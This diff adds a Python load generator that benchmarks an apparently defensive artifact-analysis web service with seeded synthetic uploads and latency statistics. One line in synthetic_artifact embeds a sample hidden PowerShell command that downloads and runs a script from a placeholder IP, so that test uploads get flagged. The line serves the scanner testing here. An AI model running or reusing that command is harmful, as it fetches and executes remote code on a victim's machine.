@@ -0,0 +1,177 @@
+"""In-process load generator for /analyze, /report/{id} and /history.
+
+    python benchmarks/loadgen.py [--requests 500] [--concurrency 16]
+        [--sizes 4k:0.6,64k:0.3,1m:0.1] [--mix analyze:0.4,report:0.4,history:0.2]
+        [--duplicates 0.1] [--json out.json]
+
+Requests go through httpx's ASGI transport straight into main.app, with the
+full middleware stack and the real thread/process pools, but without a
+socket or server in between. Artifact sizes are drawn from --sizes (size:weight) and
+contents from a generator seeded per request, so a run is reproducible for
+a given --seed whatever the concurrency. --duplicates resubmits known artifacts to
+exercise the verdict cache. The result is JSON with per-endpoint p50/p95/p99
+latency, status counts and throughput, plus the server's own stage timings.
+Storage defaults to a fresh temp directory; set PRECLEAR_STORAGE to choose
+the backend.
+"""
+import argparse
+import asyncio
+import os
+import re
+import sys
+import tempfile
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+import numpy as np  # noqa: E402
+
+from _common import environment, latency_summary, parse_size, parse_weights, write_result  # noqa: E402
+
+REPORT_ID = re.compile(rb'Report ID: <span class="mono">([0-9a-f]+)</span>')
+DUPLICATE_POOL = 8
+
+
+def synthetic_artifact(size: int, rng: np.random.Generator) -> bytes:
+    # Mostly random bytes with the odd script-like line, so some uploads score.
+    text = b"powershell -nop -w hidden -enc SQBFAFgA\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\n"
+    data = bytearray(rng.integers(0, 256, size, dtype=np.uint8).tobytes())
+    if size > len(text) and rng.random() < 0.3:
+        at = int(rng.integers(0, size - len(text)))
+        data[at:at + len(text)] = text
+    return bytes(data)
+
+
+class LoadPlan:
+    """The request sequence, fixed up front from the seed."""
+
+    def __init__(self, args):
+        rng = np.random.default_rng(args.seed)
+        sizes = parse_weights(args.sizes, parse_size)
+        mix = parse_weights(args.mix)
+        unknown = set(mix) - {"analyze", "report", "history"}
+        if unknown:
+            raise SystemExit(f"unknown request kinds in --mix: {', '.join(sorted(unknown))}")
+        # Warm-up uploads take the indices after the timed requests.
+        total = args.requests + args.warmup
+        self.kinds = rng.choice(list(mix), size=total, p=np.array(list(mix.values())) / sum(mix.values()))
+        self.sizes = rng.choice(list(sizes), size=total, p=np.array(list(sizes.values())) / sum(sizes.values()))
+        self.duplicate = rng.random(total) < args.duplicates
+        self.seed = args.seed
+
+    def artifact(self, i: int) -> tuple[str, bytes]:
+        size = int(self.sizes[i])
+        if self.duplicate[i]:
+            k = i % DUPLICATE_POOL
+            return f"dup-{k}-{size}.bin", synthetic_artifact(size, np.random.default_rng([self.seed, 1, k, size]))
+        return f"artifact-{i}.bin", synthetic_artifact(size, np.random.default_rng([self.seed, 0, i]))
+
+
+async def run_load(main, args) -> dict:
+    import httpx
+
+    plan = LoadPlan(args)
+    samples: dict[str, list[float]] = {"analyze": [], "report": [], "history": []}
+    statuses: dict[str, dict[int, int]] = {kind: {} for kind in samples}
+    report_ids: list[str] = []
+    uploaded = 0
+    next_index = 0
+    pick = np.random.default_rng([args.seed, 2])
+
+    transport = httpx.ASGITransport(app=main.app)
+    async with httpx.AsyncClient(transport=transport, base_url="http://loadgen", timeout=None) as client:
+
+        async def analyze(i: int) -> httpx.Response:
+            nonlocal uploaded
+            name, data = plan.artifact(i)
+            uploaded += len(data)
+            response = await client.post("/analyze", files={"file": (name, data)})
+            found = REPORT_ID.search(response.content)
+            if found:
+                report_ids.append(found.group(1).decode())
+            return response
+
+        async def request(kind: str, i: int) -> httpx.Response:
+            if kind == "analyze":
+                return await analyze(i)
+            if kind == "report":
+                return await client.get(f"/report/{report_ids[int(pick.integers(len(report_ids)))]}")
+            return await client.get("/history", params={"limit": args.history_limit})
+
+        async def worker() -> None:
+            nonlocal next_index
+            while next_index < args.requests:
+                i = next_index
+                next_index += 1
+                kind = str(plan.kinds[i])
+                if kind == "report" and not report_ids:
+                    kind = "analyze"  # nothing to view yet
+                started = time.perf_counter()
+                response = await request(kind, i)
+                elapsed = time.perf_counter() - started
+                samples[kind].append(elapsed)
+                statuses[kind][response.status_code] = statuses[kind].get(response.status_code, 0) + 1
+
+        for i in range(args.warmup):
+            await analyze(args.requests + i)
+        main.STAGE_LATENCY.clear()
+
+        started = time.perf_counter()
+        await asyncio.gather(*(worker() for _ in range(args.concurrency)))
+        elapsed = time.perf_counter() - started
+
+    endpoints = {
+        kind: {
+            **latency_summary(values),
+            "statuses": {str(code): n for code, n in sorted(statuses[kind].items())},
+            "requests_per_second": round(len(values) / elapsed, 2),
+        }
+        for kind, values in samples.items()
+        if values
+    }
+    errors = sum(n for s in statuses.values() for code, n in s.items() if code >= 400)
+    return {
+        "elapsed_s": round(elapsed, 3),
+        "requests": args.requests,
+        "errors": errors,
+        "requests_per_second": round(args.requests / elapsed, 2),
+        "uploaded_bytes": uploaded,
+        "overall": latency_summary([v for values in samples.values() for v in values]),
+        "endpoints": endpoints,
+        "server_stages": {stage: h.snapshot() for stage, h in sorted(main.STAGE_LATENCY.items())},
+    }
+
+
+def main_() -> None:
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--requests", type=int, default=500)
+    parser.add_argument("--concurrency", type=int, default=16)
+    parser.add_argument("--sizes", default="4k:0.6,64k:0.3,1m:0.1", help="artifact size distribution, size:weight")
+    parser.add_argument("--mix", default="analyze:0.4,report:0.4,history:0.2", help="request mix, kind:weight")
+    parser.add_argument("--duplicates", type=float, default=0.1, help="share of uploads that repeat a known artifact")
+    parser.add_argument("--history-limit", type=int, default=50)
+    parser.add_argument("--warmup", type=int, default=10, help="uploads before timing starts")
+    parser.add_argument("--seed", type=int, default=1)
+    parser.add_argument("--json", help="write the result here instead of stdout")
+    args = parser.parse_args()
+
+    # Configure before main is imported; it reads its settings at import time.
+    os.environ.setdefault("PRECLEAR_DATA_DIR", tempfile.mkdtemp(prefix="preclear-load-"))
+    import main
+
+    result = asyncio.run(run_load(main, args))
+    print(
+        f"{result['requests']} requests in {result['elapsed_s']} s: {result['requests_per_second']} req/s, "
+        f"p50 {result['overall']['p50_ms']} ms, p99 {result['overall']['p99_ms']} ms, {result['errors']} errors",
+        file=sys.stderr,
+    )
+    write_result({
+        "benchmark": "load",
+        "environment": environment(),
+        "config": {k: v for k, v in vars(args).items() if k != "json"} | {"storage": main.STORAGE_BACKEND},
+        **result,
+    }, args.json)
+
+
+if __name__ == "__main__":
+    main_()